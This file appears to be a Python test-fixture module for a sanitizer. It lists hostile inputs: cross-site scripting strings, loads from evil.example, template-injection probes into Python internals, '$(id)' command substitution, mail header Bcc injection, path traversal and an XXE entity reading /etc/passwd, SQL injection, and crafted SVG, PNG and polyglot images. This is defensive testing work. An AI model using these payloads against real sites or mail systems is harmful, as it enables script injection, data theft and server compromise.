"""Values somebody could put into an organization's file to make its pages or mails do something."""

import io
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script src=//evil.example/x.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=//evil.example>Continue</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<plaintext>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://evil.example/\"onclick='alert(1)'",
    "https://user:pass@evil.example/",
    "//evil.example",
    "https://evil.example@northbank.example",
    "https:evil.example",
    "https://evil.example/\\..\\",
    "file:///etc/passwd",
)
STYLES = (
    "red;}body{display:none",
    "red;background:url(//evil.example/x)",
    "#fff;}</style><script>alert(1)</script>",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    "}@import '//evil.example/x.css';",
    "/* */ } * { visibility: hidden } /*",
    "\\72 ed",
    'x"; color: red; "',
    "var(--brand)",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# comment #}",
    "{0.__class__}",
    "{organization.__class__}",
    "{organization!r}",
    "{organization:>99999999}",
    "{company}",
    "{}",
    "%(x)s",
    "%(organization)s",
    "%s%s%s%n",
    "%999999999d",
    "${7*7}",
    "$(id)",
    "`id`",
    "<%= 7*7 %>",
    "#{7*7}",
    "[[linkflow:link]]",
    "\\[[linkflow:link]]",
    "[[linkflow:code]]",
)
MARKDOWN = (
    "[Continue](javascript:alert(1)).",
    "[Continue](data:text/html;base64,PHNjcmlwdD4=).",
    '[Continue](https://evil.example"onclick=alert(1)).',
    "![x](https://evil.example/pixel.png)",
    "[x]: https://evil.example\n\n[x]",
    "<https://evil.example>",
    "**<b onclick=alert(1)>bold</b>**",
    "# Title\n\n---\n\n> quote",
    "- <script>alert(1)</script>\n- two",
    "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[](((((((((((((((((((((((((",
    "*" * 400 + "x" + "*" * 400,
)
HEADERS = (
    "Hello\r\nBcc: everyone@evil.example",
    "Hello\nBcc: everyone@evil.example",
    "Hello\r\n\r\n<script>alert(1)</script>",
    "Hello\x0bBcc: everyone@evil.example",
    "Hello\u2028Bcc: everyone@evil.example",
    "Hello\x85Bcc: everyone@evil.example",
    "=?utf-8?q?Hello=0D=0ABcc:_everyone@evil.example?=",
    "help@a.example, everyone@evil.example",
    "help@a.example?bcc=everyone@evil.example",
    '"x" <help@a.example>',
)
TEXTS = (
    "\u202egnp.exe",
    "\u2066\u2067turned\u2069",
    "\u200b",
    "\ufeff",
    "\x00",
    "\x1b[31mred",
    "Z\u0351\u0363\u0364" * 60,
    "x" * 119,
    "x" * 1999,
    "x" * 100_000,
    "🏴‍☠️" * 30,
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "'; DROP TABLE requests; --",
)
VALUES = (*SCRIPTS, *STYLES, *TEMPLATES, *MARKDOWN, *HEADERS, *TEXTS)

_SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4">{}<rect width="4" height="4"/></svg>'


def _file(kind: str, **how: object) -> bytes:
    Image.new("RGB", (4, 4), "red").save(out := io.BytesIO(), kind, **how)  # type: ignore[arg-type]
    return out.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _flood(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(b"")) + _chunk(b"IEND", b"")


def _archive() -> bytes:
    with zipfile.ZipFile(out := io.BytesIO(), "w") as inside:
        inside.writestr("run.js", "alert(1)")
    return out.getvalue()


def _texts() -> PngImagePlugin.PngInfo:
    (words := PngImagePlugin.PngInfo()).add_text("Comment", "<script>alert(1)</script>", zip=True)
    return words


REFUSED_IMAGES = {
    "a script in a drawing": _SVG.format("<script>alert(1)</script>").encode(),
    "a handler in a drawing": _SVG.format('<g onload="alert(1)"/>').encode(),
    "a picture from elsewhere": _SVG.format('<image href="https://evil.example/x.png"/>').encode(),
    "a style from elsewhere": _SVG.format("<style>@import url(//evil.example)</style>").encode(),
    "a link in a drawing": _SVG.format('<a href="javascript:alert(1)"><rect/></a>').encode(),
    "a page in a drawing": _SVG.format("<foreignObject><body/></foreignObject>").encode(),
    "an entity": (
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _SVG.format("<text>&x;</text>")
    ).encode(),
    "a stylesheet of a drawing": ('<?xml-stylesheet href="//evil.example"?>' + _SVG.format("")).encode(),
    "a drawing that grows": _SVG.format('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>').encode(),
    "a page": b"<!doctype html><script>alert(1)</script>",
    "a flood of pixels": _flood(60_000, 60_000),
    "a flood just too large": _flood(3_001, 2_000),
    "a picture that ends early": _file("PNG")[:-30],
    "another kind of picture": _file("GIF"),
    "too many bytes": _file("PNG") + bytes(400_000),
    "nothing": b"",
}
CLEANED_IMAGES = {
    "a picture with a script behind it": _file("PNG") + b"<script>alert(1)</script>",
    "a photograph with a script behind it": _file("JPEG") + b"<script>alert(1)</script>",
    "a picture that is an archive": _file("PNG") + _archive(),
    "a picture with a script in its words": _file("PNG", pnginfo=_texts()),
    "a photograph with a script in its words": _file("JPEG", comment=b"<script>alert(1)</script>"),
    "a photograph with a script as its profile": _file("JPEG", icc_profile=b"<script>alert(1)</script>"),
}
